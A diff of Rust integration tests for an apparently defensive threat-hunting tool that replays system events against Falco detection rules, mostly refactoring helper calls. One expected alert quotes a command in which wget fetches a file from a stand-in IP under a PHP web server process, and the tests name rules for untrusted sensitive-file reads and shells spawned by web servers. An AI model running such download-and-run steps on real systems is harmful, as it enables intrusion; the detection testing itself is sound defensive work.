@@ -57,8 +57,8 @@ fn publish_line(
 /// The fixture events as an NDJSON publish file, plus two connection sweeps generated here: a
 /// scanner's (must be found) and a monitoring probe's (a near miss).
 fn family_events(dir: &Path) -> (PathBuf, Vec<Row>) {
-    let text = std::fs::read_to_string(repo_root().join("tests/fixtures/families/events.tsv"))
-        .unwrap();
+    let text =
+        std::fs::read_to_string(repo_root().join("tests/fixtures/families/events.tsv")).unwrap();
     let base = chrono::DateTime::parse_from_rfc3339("2025-08-01T10:00:00Z")
         .unwrap()
         .to_utc();
@@ -111,7 +111,8 @@ fn family_events(dir: &Path) -> (PathBuf, Vec<Row>) {
     {
         for i in 0..25 {
             let evt_num = 5000 + 100 * n as i64 + i;
-            let at = minute + chrono::Duration::minutes(n as i64) + chrono::Duration::seconds(i * 2);
+            let at =
+                minute + chrono::Duration::minutes(n as i64) + chrono::Duration::seconds(i * 2);
             let fd = format!("10.1.0.5:{}->10.1.{}.{}:{port}", 41000 + i, n, 10 + i);
             lines.push(publish_line(
                 evt_num,
@@ -179,18 +180,15 @@ async fn technique_families_and_falco_rules() {
 
     let falco = repo_root().join("tests/fixtures/falco");
     let (rules, overrides) = (falco.join("rules.yaml"), falco.join("overrides.yaml"));
-    let o = jsreplay(&[
-        "hunt",
-        ds.to_str().unwrap(),
-        "--format",
-        "json",
-        "--falco",
-        rules.to_str().unwrap(),
-        "--falco",
-        overrides.to_str().unwrap(),
-    ]);
-    assert_ok(&o);
-    let doc: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
+    let doc = hunt_json(
+        &ds,
+        &[
+            "--falco",
+            rules.to_str().unwrap(),
+            "--falco",
+            overrides.to_str().unwrap(),
+        ],
+    );
     let found = hits(&doc);
 
     // Per family: each positive found by one of its hunts, each near miss by no high or
@@ -324,12 +322,7 @@ async fn technique_families_and_falco_rules() {
         assert_eq!(found[name].1, want, "{name}");
     }
     // The rule's output is the hit's message, fields filled in, unknown ones `<NA>`.
-    let hunt = doc["hunts"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .find(|h| h["name"] == "falco/read_sensitive_file_untrusted")
-        .unwrap();
+    let hunt = hunt_named(&doc, "falco/read_sensitive_file_untrusted");
     let messages: Vec<&str> = hunt["results"]
         .as_array()
         .unwrap()
@@ -342,34 +335,44 @@ async fn technique_families_and_falco_rules() {
         ) && m.ends_with("parent=sh gparent=<NA> user=<NA>)")),
         "{messages:#?}"
     );
-    let below = doc["hunts"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .find(|h| h["name"] == "falco/downloader_two_levels_below_a_web_server")
-        .unwrap();
+    let below = hunt_named(&doc, "falco/downloader_two_levels_below_a_web_server");
     assert_eq!(
         below["results"][0]["message"],
         "Downloader below a web server (cmd=wget http://198.51.100.8/x gparent=php-fpm8.2 gparent_pid=5200)"
     );
 
     // With --process-events exec, spawned_process means execve, which this template lacks.
-    let o = jsreplay(&[
-        "hunt",
-        ds.to_str().unwrap(),
-        "--format",
-        "json",
-        "--falco",
-        rules.to_str().unwrap(),
-        "--select",
-        "falco",
-        "--process-events",
-        "exec",
-    ]);
-    assert_ok(&o);
-    let exec = hits(&serde_json::from_slice(&o.stdout).unwrap());
+    let exec = hits(&hunt_json(
+        &ds,
+        &[
+            "--falco",
+            rules.to_str().unwrap(),
+            "--select",
+            "falco",
+            "--process-events",
+            "exec",
+        ],
+    ));
     assert!(exec["falco/shell_spawned_by_a_web_server"].1.is_empty());
     assert!(!exec["falco/read_sensitive_file_untrusted"].1.is_empty());
+
+    // The coverage table names every hunt (the Falco ones with their tags' techniques) and the
+    // techniques these fields cannot show.
+    let o = jsreplay(&[
+        "hunt",
+        "--coverage",
+        "--falco",
+        rules.to_str().unwrap(),
+        "--falco",
+        overrides.to_str().unwrap(),
+    ]);
+    assert_ok(&o);
+    let table = String::from_utf8(o.stdout).unwrap();
+    for name in found.keys() {
+        assert!(table.contains(name.as_str()), "{name} missing:\n{table}");
+    }
+    assert!(table.contains("T1071.004  DNS"), "{table}");
+    assert!(table.contains("cannot be shown: no DNS names"), "{table}");
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
@@ -381,9 +384,7 @@ async fn second_incident_amid_a_night_of_administration() {
         &repo_root().join("sample-data/fleet-night.ndjson.zst"),
         tmp.path(),
     );
-    let o = jsreplay(&["hunt", ds.to_str().unwrap(), "--format", "json"]);
-    assert_ok(&o);
-    let found = hits(&serde_json::from_slice(&o.stdout).unwrap());
+    let found = hits(&hunt_json(&ds, &[]));
     let by_severity = |levels: &[&str]| -> BTreeSet<i64> {
         found
             .values()
@@ -407,14 +408,16 @@ async fn second_incident_amid_a_night_of_administration() {
             r["proc_name"].as_str().unwrap_or_default().to_string(),
             r["fd_name"].as_str().unwrap_or_default().to_string(),
         );
-        located.entry(key).or_default().push(r["seq"].as_i64().unwrap());
+        located
+            .entry(key)
+            .or_default()
+            .push(r["seq"].as_i64().unwrap());
     }
-    let labels =
-        jsreplay::jobs::sample::labelled(&jsreplay::jobs::sample::Config {
-            noise: 60_000,
-            seed: 20250710,
-            scenario: jsreplay::jobs::sample::Scenario::FleetNight,
-        });
+    let labels = jsreplay::jobs::sample::labelled(&jsreplay::jobs::sample::Config {
+        noise: 60_000,
+        seed: 20250710,
+        scenario: jsreplay::jobs::sample::Scenario::FleetNight,
+    });
     let mut steps: BTreeMap<&str, (usize, usize)> = BTreeMap::new();
     let mut admin: BTreeMap<&str, (usize, usize, usize)> = BTreeMap::new();
     let mut missed = Vec::new();
